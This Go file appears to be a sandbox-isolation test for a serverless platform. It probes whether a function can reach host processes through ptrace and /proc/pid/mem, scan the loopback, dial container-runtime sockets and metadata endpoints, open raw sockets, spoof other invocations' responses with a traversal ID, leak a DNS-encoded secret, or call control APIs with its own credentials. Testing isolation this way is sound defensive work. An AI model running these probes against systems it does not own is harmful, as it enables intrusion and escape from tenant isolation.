//go:build linux

package main

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"sync"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	v4 "github.com/aws/aws-sdk-go-v2/aws/signer/v4"
	"golang.org/x/sys/unix"
)

var reaching = map[string]func(*event) (tries, error){
	"signals": signals, "ptrace": ptrace, "services": services, "scan": scan, "unix": unixSockets, "metadata": metadata, "neighbours": neighbours,
	"policy": policy, "names": names, "families": families, "interfaces": interfaces, "spoof": spoof, "sysv": sysv, "control": control,
}

// signals looks for processes of the host. Signal 0 is none.
func signals(e *event) (tries, error) {
	t := tries{}
	for _, pid := range e.Pids {
		t.note("signal "+itoa(pid), unix.Kill(pid, 0))
		t.note("open "+itoa(pid), opens(unix.SYS_PIDFD_OPEN, pid, 0))
		_, err := unix.Getpgid(pid)
		t.note("ask for the group of "+itoa(pid), err)
	}
	return t, nil
}

// ptrace looks into processes. PTRACE_SEIZE does not stop what it seizes.
func ptrace(e *event) (tries, error) {
	t := tries{}
	var local, remote = unix.Iovec{Base: new(byte), Len: 1}, unix.RemoteIovec{Base: 1, Len: 1}
	for _, pid := range []int{e.Pids[0], 1} { // not the platform: a signal would stop it
		t.note("seize "+itoa(pid), seize(pid))
	}
	for _, pid := range append(e.Pids, 1) {
		name := itoa(pid)
		_, err := unix.ProcessVMReadv(pid, []unix.Iovec{local}, []unix.RemoteIovec{remote}, 0) // else EFAULT
		t.note("read memory of "+name, err)
		t.note("compare files with "+name, call(unix.SYS_KCMP, os.Getpid(), pid, 0, 0, 0))
		t.note("open /proc/"+name+"/mem", opens(unix.SYS_OPENAT, unix.AT_FDCWD, "/proc/"+name+"/mem", unix.O_RDONLY))
		pidfd, err := unix.PidfdOpen(pid, 0)
		if err == nil {
			err = opens(unix.SYS_PIDFD_GETFD, pidfd, 0, 0)
			_ = unix.Close(pidfd)
		}
		t.note("take a file of "+name, err)
	}
	return t, nil
}

// seize begins to trace a process, from a thread that ends at once, and with it
// the tracing.
func seize(pid int) error {
	came := make(chan error)
	go func() {
		runtime.LockOSThread() // for good
		came <- call(unix.SYS_PTRACE, unix.PTRACE_SEIZE, pid, 0, 0)
	}()
	return <-came
}

// dial notes whether somebody answers.
func dial(t tries, network, addr string) {
	conn, err := net.DialTimeout(network, addr, 2*time.Second)
	if err == nil {
		defer conn.Close()
		_ = conn.SetDeadline(time.Now().Add(2 * time.Second))
		var greeting [64]byte
		n, _ := conn.Read(greeting[:])
		if n > 0 {
			t[addr] = string(greeting[:n])
			return
		}
	}
	t.note(addr, err)
}

func dialAll(network string, addrs []string) tries {
	t := tries{}
	var mu sync.Mutex
	var wg sync.WaitGroup
	for _, addr := range addrs {
		wg.Go(func() {
			one := tries{}
			dial(one, network, addr)
			mu.Lock()
			defer mu.Unlock()
			t[addr] = one[addr]
		})
	}
	wg.Wait()
	return t
}

// services looks for the host's loopback at all addresses that might lead
// there: its own, and that of its gateway.
func services(e *event) (tries, error) {
	addrs := slices.Clone(e.Services)
	for _, service := range e.Services {
		_, port, _ := net.SplitHostPort(service)
		for _, host := range append(gateways(), "0.0.0.0", "127.0.0.2", "::1", "::ffff:127.0.0.1", "10.0.2.2", "192.168.127.254", "169.254.1.1") {
			addrs = append(addrs, net.JoinHostPort(host, port))
		}
	}
	return dialAll("tcp", addrs), nil
}

// gateways are the addresses of the routers that the function may know.
func gateways() (all []string) {
	table, _ := os.ReadFile("/proc/net/route")
	for line := range strings.Lines(string(table)) {
		fields := strings.Fields(line)
		if len(fields) < 3 || fields[1] != "00000000" {
			continue
		}
		if n, err := strconv.ParseUint(fields[2], 16, 32); err == nil {
			all = append(all, net.IPv4(byte(n), byte(n>>8), byte(n>>16), byte(n>>24)).String())
		}
	}
	servers, _ := os.ReadFile("/etc/resolv.conf")
	for line := range strings.Lines(string(servers)) {
		if server, ok := strings.CutPrefix(strings.TrimSpace(line), "nameserver "); ok {
			all = append(all, server)
		}
	}
	return all
}

// ownPorts are those that may be open on the function's own loopback.
func ownPorts(e *event) []string {
	_, port, _ := net.SplitHostPort(os.Getenv("AWS_LAMBDA_RUNTIME_API"))
	return append(e.Ports, port)
}

// scan tries every port of the loopback.
func scan(e *event) (tries, error) {
	t := tries{"all others": "ECONNREFUSED"}
	own := ownPorts(e)
	for port := 1; port < 1<<16; port++ {
		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
		if err != nil {
			return nil, err
		}
		err = unix.Connect(fd, &unix.SockaddrInet4{Port: port, Addr: [4]byte{127, 0, 0, 1}})
		if own, ok := sockname(fd); ok && own == port {
			err = unix.ECONNREFUSED // it had that very port for itself, and met itself
		}
		_ = unix.Close(fd)
		if err == nil && !slices.Contains(own, itoa(port)) || err != nil && err != unix.ECONNREFUSED {
			t.note("port "+itoa(port), err)
		}
	}
	return t, nil
}

// sockname is the port of a socket.
func sockname(fd int) (port int, ok bool) {
	addr, err := unix.Getsockname(fd)
	if in, ok := addr.(*unix.SockaddrInet4); ok && err == nil {
		return in.Port, true
	}
	return 0, false
}

func unixSockets(e *event) (tries, error) {
	t := dialAll("unix", []string{"@" + e.Abstract, e.Socket, "/var/run/docker.sock", "/run/containerd/containerd.sock", "/run/systemd/private"})
	table, err := os.ReadFile("/proc/net/unix")
	if err == nil && strings.Contains(string(table), "@") {
		t["names in /proc/net/unix"] = got
	}
	return t, nil
}

func metadata(e *event) (tries, error) {
	addrs := slices.Clone(e.Metadata)
	for _, addr := range e.Metadata {
		host, port, _ := net.SplitHostPort(addr)
		addrs = append(addrs, net.JoinHostPort("::ffff:"+host, port))
	}
	return dialAll("tcp", addrs), nil
}

func neighbours(e *event) (tries, error) { return dialAll("tcp", e.Neighbours), nil }

// policy tries what a list allows and what it does not, and names.
func policy(e *event) (tries, error) {
	t := dialAll("tcp", []string{e.Allowed, e.Other})
	_, port, _ := net.SplitHostPort(e.Services[0])
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Second)
	defer cancel()
	// A name that leads to the host's loopback leads nowhere.
	var d net.Dialer
	conn, err := d.DialContext(ctx, "tcp", "localhost:"+port)
	if err == nil {
		conn.Close()
	}
	t.note("localhost:"+port, err)
	return t, nil
}

// names looks up names that would tell their server a secret.
func names(*event) (tries, error) {
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Second)
	defer cancel()
	t := tries{}
	for _, name := range []string{"c2VjcmV0.example.com.", "vm.", "metadata.google.internal."} {
		addrs, err := net.DefaultResolver.LookupHost(ctx, name)
		if err == nil {
			t[name] = got + ": " + strings.Join(addrs, " ")
			continue
		}
		t[name] = "unknown"
	}
	return t, nil
}

// families opens sockets that go around the network namespace, or into rarely
// used parts of the kernel.
func families(*event) (tries, error) {
	t := tries{}
	for name, kind := range map[string][3]int{
		"raw ICMP":         {unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP},
		"raw IP":           {unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_RAW},
		"raw ICMPv6":       {unix.AF_INET6, unix.SOCK_RAW, unix.IPPROTO_ICMPV6},
		"packet":           {unix.AF_PACKET, unix.SOCK_RAW, 0x0300},
		"packet, datagram": {unix.AF_PACKET, unix.SOCK_DGRAM, 0x0300},
		"vsock":            {unix.AF_VSOCK, unix.SOCK_STREAM, 0},
		"kernel crypto":    {unix.AF_ALG, unix.SOCK_SEQPACKET, 0},
		"kernel events":    {unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_KOBJECT_UEVENT},
		"audit":            {unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_AUDIT},
		"firewall":         {unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_NETFILTER},
		"sockets of all":   {unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_SOCK_DIAG},
		"key management":   {unix.AF_KEY, unix.SOCK_RAW, 2},
		"SCTP":             {unix.AF_INET, unix.SOCK_STREAM, unix.IPPROTO_SCTP},
		"bluetooth":        {unix.AF_BLUETOOTH, unix.SOCK_RAW, 1},
		"XDP":              {unix.AF_XDP, unix.SOCK_RAW, 0},
	} {
		t.note(name, opens(unix.SYS_SOCKET, kind[0], kind[1]|unix.SOCK_CLOEXEC, kind[2]))
	}
	return t, nil
}

// interfaces changes the function's own network, to what it is already.
func interfaces(*event) (tries, error) {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return nil, err
	}
	defer unix.Close(fd)
	t := tries{}
	links, err := net.Interfaces()
	if err != nil {
		return nil, err
	}
	for _, link := range links {
		request, err := unix.NewIfreq(link.Name)
		if err != nil {
			return nil, err
		}
		if err := unix.IoctlIfreq(fd, unix.SIOCGIFFLAGS, request); err != nil {
			return nil, err
		}
		t.note("set the flags of "+link.Name, unix.IoctlIfreq(fd, unix.SIOCSIFFLAGS, request))
	}
	t.note("open the tunnel device", opens(unix.SYS_OPENAT, unix.AT_FDCWD, "/dev/net/tun", unix.O_RDWR))
	return t, nil
}

// spoof answers invocations that are not the function's: another's, and ids as
// one guesses them.
func spoof(e *event) (tries, error) {
	t := tries{}
	for _, id := range []string{e.RequestID, "00000000-0000-0000-0000-000000000000", "1", "..%2f" + e.RequestID} {
		for _, verb := range []string{"response", "error"} {
			url := fmt.Sprintf("http://%s/2018-06-01/runtime/invocation/%s/%s", os.Getenv("AWS_LAMBDA_RUNTIME_API"), id, verb)
			resp, err := http.Post(url, "application/json", strings.NewReader(`"spoofed"`))
			if err != nil {
				return nil, err
			}
			body, _ := io.ReadAll(resp.Body)
			resp.Body.Close()
			what := verb + " of " + id
			switch {
			case resp.StatusCode < 300:
				t[what] = got
			case strings.Contains(string(body), "InvalidRequestID"):
				t[what] = "InvalidRequestID"
			default:
				t[what] = strconv.Itoa(resp.StatusCode)
			}
		}
	}
	return t, nil
}

// sysv looks for the host's System V shared memory.
func sysv(e *event) (tries, error) {
	t := tries{}
	_, err := unix.SysvShmGet(e.SysvKey, 0, 0)
	t.note("shmget", err)
	return t, nil
}

// control asks the platform for what only its owner may have.
func control(e *event) (tries, error) {
	t := tries{}
	base := os.Getenv("AWS_ENDPOINT_URL")
	for _, path := range []string{
		"/_pinfold/v1/functions", "/_pinfold/v1/apps", "/_pinfold/v1/logs",
		"/2015-03-31/functions/" + e.Function, "/2015-03-31/functions/" + e.Function + "/configuration", "/2015-03-31/functions/",
	} {
		status, err := signed(base + path)
		if err != nil {
			return nil, err
		}
		t["ask for "+path] = status
	}
	return t, nil
}

// signed asks with the function's own credentials.
func signed(url string) (string, error) {
	req, err := http.NewRequest("GET", url, nil)
	if err != nil {
		return "", err
	}
	own := aws.Credentials{
		AccessKeyID: os.Getenv("AWS_ACCESS_KEY_ID"), SecretAccessKey: os.Getenv("AWS_SECRET_ACCESS_KEY"), SessionToken: os.Getenv("AWS_SESSION_TOKEN"),
	}
	service := "lambda"
	if strings.Contains(url, "/_pinfold/") {
		service = "pinfold"
	}
	const empty = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
	req.Header.Set("X-Amz-Content-Sha256", empty)
	if err := v4.NewSigner().SignHTTP(context.Background(), own, req, empty, service, os.Getenv("AWS_REGION"), time.Now()); err != nil {
		return "", err
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		return "", err
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	switch {
	case resp.StatusCode < 300:
		return got, nil
	case strings.Contains(string(body)+resp.Header.Get("X-Amzn-Errortype"), "AccessDenied"):
		return "AccessDenied", nil
	}
	return resp.Status + string(body), nil
}
